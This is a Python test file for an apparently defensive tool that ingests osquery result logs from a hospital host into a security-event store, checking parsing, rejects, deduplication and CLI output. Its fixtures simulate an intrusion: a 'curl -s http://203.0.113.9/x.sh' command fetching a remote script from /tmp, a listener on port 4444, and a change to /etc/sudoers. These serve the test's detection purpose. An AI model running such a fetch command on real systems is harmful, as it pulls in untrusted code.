"""osquery result logs (differential, batched differential, snapshot) land one event per
row in security_event with the class of the table the query reads."""

from __future__ import annotations

import datetime as dt
import gzip
from pathlib import Path

import orjson
from typer.testing import CliRunner

from carewarden.cli.main import app
from carewarden.services.ingest import ingest
from carewarden.store import Store
from carewarden.telemetry.osquery import OsqueryConnector, table_of

ENVELOPE = {
    "hostIdentifier": "ehr-app01",
    "calendarTime": "Wed Jan  1 10:00:00 2025 UTC",
    "unixTime": 1735725600,
    "epoch": 0,
    "counter": 12,
    "numerics": False,
    "decorations": {"host_uuid": "4740D59F-699E-5B29-960B-979AAF9BBEEB"},
}

RESULTS: list[object] = [
    # differential, event format: a process started (process_events has its own time)
    {
        **ENVELOPE,
        "name": "pack_incident-response_process_events",
        "action": "added",
        "columns": {"pid": "4242", "path": "/usr/bin/curl", "parent": "4200",
                    "cmdline": "curl -s http://203.0.113.9/x.sh", "uid": "1000",
                    "cwd": "/tmp", "time": "1735725590"},
    },
    # batched differential: one listening port opened, one closed
    {
        **ENVELOPE,
        "name": "pack_hospital_listening_ports",
        "diffResults": {
            "added": [{"pid": "900", "port": "4444", "protocol": "6", "address": "0.0.0.0"}],
            "removed": [{"pid": "800", "port": "8080", "protocol": "6", "address": "::"}],
        },
    },
    # snapshot of logged-in users: two rows
    {
        **ENVELOPE,
        "name": "logged_in_users",
        "action": "snapshot",
        "snapshot": [
            {"type": "user", "user": "alice", "tty": "pts/0", "host": "10.1.2.3",
             "time": "1735725000", "pid": "3100"},
            {"type": "user", "user": "root", "tty": "tty1", "host": "", "time": "1735724000",
             "pid": "700"},
        ],
    },
    # file integrity monitoring
    {
        **ENVELOPE,
        "name": "pack_fim_file_events",
        "action": "added",
        "columns": {"target_path": "/etc/sudoers", "action": "UPDATED", "uid": "0",
                    "time": "1735725500", "md5": "d41d8cd98f00b204e9800998ecf8427e"},
    },
    # the sockets a process holds, and an unknown table: base event, columns kept
    {
        **ENVELOPE,
        "name": "pack_ir_process_open_sockets",
        "action": "added",
        "columns": {"pid": "4242", "local_address": "10.1.2.20", "local_port": "51000",
                    "remote_address": "203.0.113.9", "remote_port": "443", "state": "ESTABLISHED",
                    "protocol": "6"},
    },
    {**ENVELOPE, "name": "pack_inventory_usb_devices", "action": "removed",
     "columns": {"vendor": "SanDisk", "model": "Cruzer"}},
    # osquery's status log in the same file: ignored
    {"hostIdentifier": "ehr-app01", "calendarTime": "x", "unixTime": "1735725600",
     "severity": "0", "filename": "scheduler.cpp", "line": "83", "message": "Executing query"},
]  # fmt: skip

BAD_LINES = [
    '{"name": "x", "unixTime": 1, "columns": ',  # truncated JSON
    '["not", "an", "object"]',
    '{"name": "processes", "unixTime": 1735725600, "action": "added", "columns": [1, 2]}',
    '{"name": "processes", "unixTime": "soon", "action": "added", "columns": {}}',
    '{"name": "processes", "unixTime": 1735725600, "snapshot": [{"pid": "1"}, 7]}',
    '{"unixTime": 1735725600, "action": "added", "columns": {}}',
]


def results_file(tmp_path: Path, name: str = "osqueryd.results.log") -> Path:
    lines = [orjson.dumps(doc).decode() for doc in RESULTS] + BAD_LINES
    path = tmp_path / name
    path.write_text("\n".join(lines) + "\n")
    return path


def test_table_of_query_names() -> None:
    assert table_of("pack_incident-response_process_events") == "process_events"
    assert table_of("pack_ir_process_open_sockets") == "process_open_sockets"
    assert table_of("processes") == "processes"
    assert table_of("pack_x_last") == "last"
    assert table_of("lastpass_vaults") is None and table_of("usb_devices") is None


def test_each_row_is_an_event_with_its_class(store: Store, tmp_path: Path) -> None:
    summary = ingest(store, OsqueryConnector(), [results_file(tmp_path)])
    rejects = {r.line: r.error for f in summary.files for r in f.first_rejects}
    assert set(rejects) == {8, 9, 10, 11, 12, 13}
    assert "invalid JSON" in rejects[8] and "not a JSON object" in rejects[9]
    assert "columns is not an object" in rejects[10] and "bad unixTime" in rejects[11]
    assert "snapshot row 2 is not an object" in rejects[12] and "no query name" in rejects[13]
    assert summary.ignored["osquery status log records"] == 1
    # 1 process + 2 ports + 2 users + 1 file + 1 socket + 1 usb + 1 good snapshot row
    assert summary.total("records") == 9
    rows = store.arrow(
        "SELECT * FROM security_event WHERE channel = 'osquery' ORDER BY time, raw"
    ).to_pylist()
    by = {(r["provider"], r["status"]): r for r in rows}
    proc = by[("osquery/pack_incident-response_process_events", "added")]
    assert (proc["class_uid"], proc["process_name"], proc["process_pid"]) == (
        1007, "/usr/bin/curl", "4242"
    )  # fmt: skip
    assert proc["process_cmd_line"] == "curl -s http://203.0.113.9/x.sh"
    assert proc["time"] == dt.datetime(2025, 1, 1, 9, 59, 50)  # its own time column
    assert proc["host"] == "ehr-app01"
    opened = by[("osquery/pack_hospital_listening_ports", "listening")]
    closed = by[("osquery/pack_hospital_listening_ports", "closed")]
    assert (opened["class_uid"], opened["src_ip"], opened["src_port"]) == (4001, "0.0.0.0", "4444")
    assert closed["src_port"] == "8080" and closed["time"] == dt.datetime(2025, 1, 1, 10)
    users = sorted(
        (r["user_name"], r["src_ip"], r["status"]) for r in rows if r["class_uid"] == 3002
    )
    assert users == [("alice", "10.1.2.3", "success"), ("root", None, "success")]
    fim = by[("osquery/pack_fim_file_events", "UPDATED")]
    assert (fim["class_uid"], fim["file_path"]) == (1001, "/etc/sudoers")
    sock = by[("osquery/pack_ir_process_open_sockets", "ESTABLISHED")]
    assert (sock["class_uid"], sock["dst_ip"], sock["dst_port"]) == (4001, "203.0.113.9", "443")
    usb = by[("osquery/pack_inventory_usb_devices", "removed")]
    assert (usb["class_uid"], usb["class_name"]) == (0, "base_event")
    raw = orjson.loads(str(usb["raw"]))
    assert raw["columns"] == {"vendor": "SanDisk", "model": "Cruzer"}
    assert raw["action"] == "removed" and raw["decorations"]["host_uuid"].startswith("4740")
    snapshot_rows = [r for r in rows if r["provider"] == "osquery/processes"]
    assert len(snapshot_rows) == 1 and orjson.loads(str(snapshot_rows[0]["raw"]))["columns"] == {
        "pid": "1"
    }


def test_batched_and_event_forms_are_the_same_event(store: Store, tmp_path: Path) -> None:
    """A row logged as a differential event and again inside a batch is stored once; a
    gzipped copy of a file adds nothing."""
    row = {"pid": "900", "port": "4444", "protocol": "6", "address": "0.0.0.0"}
    name = "pack_hospital_listening_ports"
    event = {**ENVELOPE, "name": name, "action": "added", "columns": row}
    batch = {**ENVELOPE, "name": name, "diffResults": {"added": [row], "removed": []}}
    (tmp_path / "a.json").write_bytes(orjson.dumps(event) + b"\n")
    (tmp_path / "b.json").write_bytes(orjson.dumps(batch) + b"\n")
    summary = ingest(store, OsqueryConnector(), [tmp_path])
    assert (summary.total("records"), summary.total("duplicates")) == (1, 1)
    more = tmp_path / "more"
    more.mkdir()
    source = results_file(more)
    first = ingest(store, OsqueryConnector(), [source])
    packed = tmp_path / "gz" / "osqueryd.results.log.gz"
    packed.parent.mkdir()
    packed.write_bytes(gzip.compress(source.read_bytes()))
    again = ingest(store, OsqueryConnector(), [packed])
    assert again.total("records") == 0
    assert again.total("duplicates") == first.total("records") + first.total("duplicates")


def test_cli_ingest_osquery(tmp_path: Path) -> None:
    runner = CliRunner()
    store = str(tmp_path / "store")
    path = results_file(tmp_path)
    result = runner.invoke(app, ["ingest", "osquery", f"{tmp_path}/*.log", "--store", store])
    assert result.exit_code == 1, result.output
    assert f"{path.name}:8" in result.output and "9 records stored" in result.output
    assert "ignored 1: osquery status log records" in result.output
